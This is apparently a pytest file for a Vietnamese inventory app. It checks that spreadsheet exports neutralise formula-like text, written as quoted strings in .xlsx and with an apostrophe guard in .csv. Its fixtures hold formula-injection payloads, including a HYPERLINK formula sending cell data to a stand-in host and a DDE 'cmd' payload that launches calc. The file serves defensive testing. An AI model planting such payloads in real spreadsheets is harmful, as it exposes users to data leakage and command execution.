"""No export carries a live formula: formula-like text is a string cell (.xlsx) or guarded (.csv).

The case from issue #13: a supplier's CSV names a product `=HYPERLINK("http://x/"&B3,"Xem")`.
"""

from __future__ import annotations

import csv
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gianhang_desktop.core.catalog import service as catalog
from gianhang_desktop.core.spreadsheet import exporter
from gianhang_desktop.core.spreadsheet.formula_guard import (
    FORMULA_TRIGGERS,
    guard_csv_text,
    looks_like_formula,
    unguard_csv_text,
)
from gianhang_desktop.core.spreadsheet.importer import import_file
from gianhang_desktop.core.spreadsheet.reader import open_spreadsheet
from gianhang_desktop.core.spreadsheet.table_file import save_table
from gianhang_desktop.core.spreadsheet.xlsx import Column
from gianhang_desktop.core.stock import service as stock

HYPERLINK = '=HYPERLINK("http://x/"&B3,"Xem")'
NASTY = [HYPERLINK, "=1+1", "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


@pytest.fixture
def supplier_csv(tmp_path) -> Path:
    path = tmp_path / "nha-cung-cap.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Mã SP", "Tên sản phẩm", "Giá bán", "Danh mục", "Mô tả", "Vị trí", "Tồn kho", "Lô", "HSD"])
        writer.writerow(["VT-1", HYPERLINK, "65000", "=1+1", "@SUM(A1:A9)", "-A1", "5", "+L1", "31/12/2030"])
        writer.writerow(["VT-2", "Vải thiều", "70000", "", "", "", "", "", ""])
    return path


@pytest.fixture
def imported(db, supplier_csv):
    report = import_file(db, supplier_csv)
    assert report.created == 2, [e.to_json() for e in report.errors]
    stock.add_warehouse(db, "K2", "=Kho(2)")
    stock.transfer_stock(db, "VT-1", 2, source="Kho chính", target="K2", reason="-chuyển gấp", user="@admin")
    return db


def _is_number(text: str) -> bool:
    try:
        int(text)
    except ValueError:
        return False
    return True


def _text_cells(path: Path):
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(path: Path) -> list:
    cells = list(_text_cells(path))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if looks_like_formula(c.value)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    return cells


@pytest.mark.parametrize("kind", ["products", "stock", "movements"])
def test_xlsx_exports_write_formula_like_text_as_text(imported, tmp_path, kind):
    path = tmp_path / f"{kind}.xlsx"
    exporter.export(imported, kind, path)
    values = {c.value for c in _assert_no_formula(path)}
    expected = {"products": {HYPERLINK, "=1+1", "@SUM(A1:A9)", "-A1"},
                "stock": {HYPERLINK, "+L1", "=Kho(2)"},
                "movements": {HYPERLINK, "+L1", "-chuyển gấp", "@admin"}}[kind]
    assert expected <= values


@pytest.mark.parametrize("kind", ["products", "stock", "movements"])
def test_csv_exports_guard_formula_like_text(imported, tmp_path, kind):
    path = tmp_path / f"{kind}.csv"
    count = exporter.export(imported, kind, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows Vietnamese
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert len(rows) == count + 1
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if looks_like_formula(c) and not _is_number(c)]
    assert "'" + HYPERLINK in cells
    if kind == "movements":
        assert "-2" in cells  # a number stays a number (the transfer out), only text is guarded
        assert "'-chuyển gấp" in cells and "'@admin" in cells


def test_products_csv_export_imports_back_unchanged(imported, tmp_path):
    path = tmp_path / "san-pham.csv"
    exporter.export(imported, "products", path)
    report = import_file(imported, path, dry_run=True)
    assert report.errors == [] and report.unchanged == 2
    assert catalog.get_product(imported, "VT-1").name == HYPERLINK


def test_products_xlsx_export_imports_back_unchanged(imported, tmp_path):
    path = tmp_path / "san-pham.xlsx"
    exporter.export(imported, "products", path)
    report = import_file(imported, path, dry_run=True)
    assert report.errors == [] and report.unchanged == 2


def test_import_error_file_keeps_formulas_inert(db, tmp_path):
    source = tmp_path / "loi.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Mã SP", "Tên sản phẩm", "Giá bán", "=EVIL()"])
        writer.writerow(["X-1", "\t=1+1", "-5", "@x"])
        writer.writerow(["X-2", "\r=2+2", "abc", "+1"])
    for suffix in (".xlsx", ".csv"):
        failed = tmp_path / f"dong-loi{suffix}"
        report = import_file(db, source, errors_out=failed)
        assert report.count("error") == 2 and report.file_errors_path == failed
        if suffix == ".xlsx":
            values = {c.value for c in _assert_no_formula(failed)}
            assert {"=EVIL()", "-5", "@x", "+1"} <= values
        else:
            with failed.open(encoding="utf-8-sig", newline="") as fh:
                cells = [cell for row in csv.reader(fh) for cell in row]
            assert not [c for c in cells if looks_like_formula(c)]
            assert {"'=EVIL()", "'-5", "'@x", "'+1", "'\t=1+1", "'\r=2+2"} <= set(cells)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_template_export(tmp_path, suffix):
    path = tmp_path / f"mau{suffix}"
    assert exporter.export(None, "template", path) == 1
    with open_spreadsheet(path) as book:
        rows = list(book.sheets[0].rows())
    assert rows[0][1][:3] == ("STT", "Mã SP", "Tên sản phẩm")


def test_cli_export_csv(run_cli, tmp_path):
    code, _, err = run_cli("product", "add", "--sku", "VT-1", "--name", HYPERLINK, "--price", "65000")
    assert code == 0, err
    target = tmp_path / "products.csv"
    code, out, err = run_cli("export", "products", str(target), "--json")
    assert code == 0, err
    assert json.loads(out)["rows"] == 1
    with target.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1][1] == "'" + HYPERLINK


# Stored text is NFC (core/text.py), so an export only ever writes NFC text; the reader gives NFC back.
TEXT = st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=12).map(
    lambda text: unicodedata.normalize("NFC", text))


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(FORMULA_TRIGGERS), TEXT), min_size=1, max_size=6))
@example([("\t", "'0"), ("\t", "")])  # cells' tabs once made the reader split the file on tabs
@example([("-", "x;y")] * 3 + [("\t", ";")])
def test_any_formula_like_text_stays_text(tmp_path_factory, pairs):
    texts = ["VT-1"] + [trigger + rest for trigger, rest in pairs]
    assume(all(unicodedata.normalize("NFC", text) == text for text in texts))  # "=" + U+0338 is "≠"
    folder = tmp_path_factory.mktemp("guard")
    columns = [Column(f"C{i}") for i in range(len(texts))]
    xlsx, csv_path = folder / "t.xlsx", folder / "t.csv"
    save_table(xlsx, "T", columns, [texts])
    save_table(csv_path, "T", columns, [texts])
    data = [c for c in _text_cells(xlsx)][len(texts) + 1:]
    assert all(c.data_type == "s" and c.quotePrefix for c in data)
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))[1]
    assert all(cell.startswith("'") for cell in written[1:])
    with open_spreadsheet(csv_path) as book:
        # Our reader gives the text back in NFC, as all text is kept (U+2F800 comes back as U+4E3D).
        assert list(book.sheets[0].rows())[1][1] == tuple(unicodedata.normalize("NFC", t) for t in texts)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_delimiter_follows_the_header_not_the_cells(tmp_path, delimiter):
    path = tmp_path / "sp.csv"
    rows = [["Mã SP", "Tên sản phẩm", "Giá bán"], ["VT-1", "Vải; loại 1, hộp\t2 kg", "65000"],
            ["VT-2", "Mật ong\t\t(chai, 500 ml); mới", "120000"]]
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh, delimiter=delimiter).writerows(rows)
    with open_spreadsheet(path) as book:
        assert [row for _, row in book.sheets[0].rows()] == [tuple(row) for row in rows]


def test_harmless_text_is_untouched():
    for text in ("Vải thiều", "'quoted", "120.000", "a=b", ""):
        assert guard_csv_text(text) == text and unguard_csv_text(text) == text
